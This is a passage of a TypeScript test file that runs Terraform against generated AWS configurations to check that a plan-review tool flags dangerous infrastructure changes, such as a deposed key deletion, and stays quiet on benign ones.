  const planJson = () => {
    terraform(run, ["plan", "-input=false", "-lock=false", "-refresh=false", "-out=plan.bin"]);
    return JSON.parse(terraform(run, ["show", "-json", "plan.bin"]));
  };

  beforeAll(() => {
    fs.mkdirSync(run.dir, { recursive: true });
    fs.writeFileSync(path.join(run.dir, "main.tf.json"), JSON.stringify(config("before"), null, 2));
    terraform(run, ["init", "-input=false"]);
    const empty = planJson();
    const all = [...dangerous, ...benign];
    const overrides = Object.fromEntries(all.flatMap((s) => Object.entries(s.overrides ?? {}).map(([a, v]) => [prefixAddress(s.id, a), v])));
    const deposed = Object.fromEntries(all.flatMap((s) => Object.entries(s.deposed ?? {}).map(([a, v]) => [prefixAddress(s.id, a), v])));
    // The provider's schema gives computed attributes the empty value of their type (what a real apply leaves).
    const schemas = JSON.parse(terraform(run, ["providers", "schema", "-json"])).provider_schemas["registry.terraform.io/hashicorp/aws"].resource_schemas;
    fs.writeFileSync(path.join(run.dir, "terraform.tfstate"), JSON.stringify(stateFromPlan(empty, { account: ACCOUNT, region: "us-east-1", overrides, deposed, schemas }), null, 2));
    noop = planJson();
    fs.writeFileSync(path.join(run.dir, "main.tf.json"), JSON.stringify(config("after"), null, 2));
    planned = planJson();
  }, 600_000);

  afterAll(() => fs.rmSync(work, { recursive: true, force: true }));

  const planOf = (id: string, plan: object & { resource_changes: Array<{ name: string }> }): StackPlan =>
    parsePlanJson(JSON.stringify({ ...plan, resource_changes: plan.resource_changes.filter((r) => r.name.startsWith(`${id}_`)) }), `${id}.json`, id);
  const review = (id: string, plan = planned) => reviewPlans([planOf(id, plan)], { now: TODAY }).findings;
  const shown = (fs2: Finding[]) => fs2.map((f) => `${f.severity} ${f.ruleId} ${f.address}${f.deposed ? ` (deposed ${f.deposed})` : ""}: ${f.detail}`);

  test("there are at least 40 dangerous and 10 benign scenarios in the real plan", () => {
    expect(dangerous.length + 0).toBeGreaterThanOrEqual(40);
    expect(benign.length).toBeGreaterThanOrEqual(10);
    for (const s of [...dangerous, ...benign]) expect([s.id, planned.resource_changes.some((r) => r.name.startsWith(`${s.id}_`))]).toEqual([s.id, true]);
  });

  test("the no-op re-plan of the prior configuration changes nothing (but destroys the deposed object) and raises no other finding", () => {
    // The provider plans an update without a changed value for an external key without key material: a real
    // provider quirk the review must stay quiet about.
    const changed = noop.resource_changes.filter((r) => !r.change.actions.includes("no-op") && JSON.stringify(r.change.before) !== JSON.stringify(r.change.after));
    expect(changed.map((r) => [r.name, r.deposed ?? null])).toEqual([["k01_cmk", "00000001"]]);
    for (const s of [...dangerous, ...benign]) {
      const findings = review(s.id, noop as never).filter((f) => !f.deposed);
      expect([s.id, shown(findings)]).toEqual([s.id, []]);
    }
  });

  test("terraform plans the deposed case as '1 to change, 1 to destroy', and the review counts and judges the deposed delete", () => {
    const p = planOf("k01", planned);
    expect(p.changes.map((c) => [c.kind, c.deposed ?? null])).toEqual([
      ["update", null],
      ["delete", "00000001"],
    ]);
    const r = reviewPlans([p], { now: TODAY });
    expect(r.stacks[0]!.counts).toMatchObject({ change: 1, destroy: 1, deposed: 1 });
    expect(r.findings.find((f) => f.deposed === "00000001")).toMatchObject({ ruleId: "AURA-KEY-1", severity: "high", detail: expect.stringContaining("deposed object 00000001") });
    expect(r.findings.find((f) => f.ruleId === "AURA-KEY-7")!.detail).toBe("the key is disabled");
  });

  test.each(dangerous.map((s) => [`${s.id}: ${s.what}`, s] as const))("%s", (_n, s) => {
    const findings = review(s.id);
    for (const [rule, severity] of s.expect) expect(shown(findings)).toEqual(expect.arrayContaining([expect.stringMatching(new RegExp(`^${severity} ${rule} `))]));
    expect([s.id, reaches(findings, s.gate!)]).toEqual([s.id, true]);
    // Runner endpoints, IAM and egress gate at medium: not at high.
    if (s.gate === "medium") expect([s.id, shown(findings.filter((f) => f.severity === "high"))]).toEqual([s.id, []]);
  });

  test.each(benign.map((s) => [`${s.id}: ${s.what}`, s] as const))("benign %s", (_n, s) => {
    expect([s.id, shown(review(s.id))]).toEqual([s.id, []]);
    expect(planOf(s.id, planned).changes.some((c) => c.kind !== "no-op")).toBe(true);
  });
});
